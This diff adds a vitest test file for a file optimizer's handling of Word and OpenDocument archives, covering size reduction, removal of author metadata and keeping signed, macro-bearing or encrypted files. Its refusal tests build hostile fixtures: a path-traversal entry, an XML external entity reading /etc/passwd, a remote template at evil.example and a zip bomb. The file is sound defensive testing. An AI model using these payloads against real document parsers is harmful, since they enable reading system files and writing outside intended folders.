@@ -1,0 +1,130 @@
+import { strFromU8, strToU8, unzipSync, zipSync } from "fflate";
+import sharp from "sharp";
+import { describe, expect, it } from "vitest";
+import { optimizeHere } from "../optimize.js";
+import { withDefaults } from "../options.js";
+import { verifyArchive } from "./office.js";
+import { readZip } from "./zip-reader.js";
+import { writeZip } from "./zip-writer.js";
+
+const options = withDefaults();
+const TEXT = `<w:document><w:ins w:author="Ann Author" w:rsidR="00AB">${"<w:p>Hello  world</w:p>".repeat(300)}</w:ins></w:document>`;
+const CORE = "<cp:coreProperties><dc:title>CV</dc:title><dc:creator>Ann Author</dc:creator></cp:coreProperties>";
+
+async function picture(): Promise<Uint8Array> {
+  const data = Buffer.from(Array.from({ length: 200 * 120 * 3 }, (_, at) => 128 + 100 * Math.sin(at / 997)));
+  return sharp(data, { raw: { width: 200, height: 120, channels: 3 } })
+    .png({ compressionLevel: 0 })
+    .toBuffer();
+}
+
+/** A document as a hurried producer packs it: nothing compressed much, the content types last. */
+async function docx(more: Record<string, Uint8Array> = {}): Promise<Uint8Array> {
+  const parts = {
+    "word/document.xml": strToU8(TEXT),
+    "word/media/image1.png": await picture(),
+    "docProps/core.xml": strToU8(CORE),
+    ...more,
+    "[Content_Types].xml": strToU8("<Types/>"),
+  };
+  return zipSync(parts, { level: 1 });
+}
+
+describe("Office documents", () => {
+  it("get smaller, with byte-equal text and without the author", async () => {
+    const source = await docx();
+    const result = await optimizeHere(source, options);
+    const [before, after] = [unzipSync(source), unzipSync(result.bytes)];
+    expect(result).toMatchObject({ status: "optimized", type: { extension: "docx" } });
+    expect(result.bytes.length).toBeLessThan(source.length);
+    expect(Object.keys(after).sort()).toEqual(Object.keys(before).sort());
+    expect(strFromU8(after["word/document.xml"] as Uint8Array)).toBe(TEXT);
+    expect(strFromU8(after["docProps/core.xml"] as Uint8Array)).toBe(
+      CORE.replace("<dc:creator>Ann Author</dc:creator>", ""),
+    );
+    expect((await sharp(after["word/media/image1.png"]).metadata()).width).toBe(200);
+    expect((await readZip(Buffer.from(result.bytes), options.limits))[0]?.name).toBe("[Content_Types].xml");
+  });
+
+  it("keep an author that a field shows", async () => {
+    const source = await docx({ "word/footer1.xml": strToU8("<w:instrText> AUTHOR </w:instrText>") });
+    const after = unzipSync((await optimizeHere(source, options)).bytes);
+    expect(strFromU8(after["docProps/core.xml"] as Uint8Array)).toBe(CORE);
+  });
+
+  it("of OpenDocument keep their type first and stored", async () => {
+    const mimetype = strToU8("application/vnd.oasis.opendocument.text");
+    const content = strToU8(`<office:document-content>${"<text:p>a</text:p>".repeat(500)}</office:document-content>`);
+    const source = zipSync({ mimetype: [mimetype, { level: 0 }], "content.xml": [content, { level: 1 }] });
+    const result = await optimizeHere(source, options);
+    expect(result.status).toBe("optimized");
+    expect(Buffer.from(result.bytes).toString("latin1", 30, 38 + mimetype.length)).toBe(
+      `mimetype${strFromU8(mimetype)}`,
+    );
+  });
+
+  it.each([
+    ["signed", { "_xmlsignatures/sig1.xml": strToU8("<Signature/>") }, /signed/],
+    ["with macros", { "word/vbaProject.bin": strToU8("macro") }, /macros/],
+    ["encrypted", { "META-INF/manifest.xml": strToU8("<manifest:encryption-data/>") }, /encrypted/],
+  ])("%s stay as they are", async (_, more, reason) => {
+    const source = await docx(more);
+    expect(await optimizeHere(source, options)).toMatchObject({
+      status: "kept",
+      bytes: source,
+      reason: expect.stringMatching(reason),
+    });
+  });
+
+  it.each([
+    ["that leaves its folder", { "../../evil.txt": strToU8("x") }, /leaves/],
+    ["with an archive in it", { "word/a.zip": zipSync({ a: strToU8("a") }) }, /archive in it/],
+    [
+      "with entities",
+      { "word/a.xml": strToU8('<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>') },
+      /entities/,
+    ],
+    [
+      "with a template from elsewhere",
+      {
+        "word/_rels/settings.xml.rels": strToU8(
+          '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/a.dotm"/>',
+        ),
+      },
+      /template/,
+    ],
+    ["that is a bomb", { "word/bomb.xml": new Uint8Array(60_000_000) }, /inflates/],
+  ])("%s are refused", async (_, more, reason) => {
+    const source = await docx(more);
+    expect(await optimizeHere(source, options)).toMatchObject({
+      status: "refused",
+      reason: expect.stringMatching(reason),
+    });
+  });
+
+  it("whose sizes lie, or that are cut off, stay as they are", async () => {
+    const source = Buffer.from(await docx());
+    const lying = Buffer.from(source);
+    const directory = lying.lastIndexOf("PK\x01\x02");
+    lying.writeUInt32LE(lying.readUInt32LE(directory + 24) - 1, directory + 24);
+    const broken = Buffer.from(source);
+    broken.fill(0x55, 60, 90);
+    for (const bytes of [lying, broken]) {
+      expect(await optimizeHere(bytes, options)).toMatchObject({ status: "kept", bytes });
+    }
+  });
+
+  it("have a guard that sees a changed and a lost part", async () => {
+    const entries = await readZip(Buffer.from(await docx()), options.limits);
+    const damaged = entries.map((entry) =>
+      entry.name === "word/document.xml"
+        ? { ...entry, raw: strToU8("x"), data: strToU8("x"), method: 0 as const }
+        : entry,
+    );
+    await expect(verifyArchive(writeZip(entries), entries, new Map(), options)).resolves.toBeUndefined();
+    await expect(verifyArchive(writeZip(damaged), entries, new Map(), options)).rejects.toThrow(/is not what it was/);
+    await expect(verifyArchive(writeZip(entries.slice(1)), entries, new Map(), options)).rejects.toThrow(
+      /number of parts/,
+    );
+  });
+});
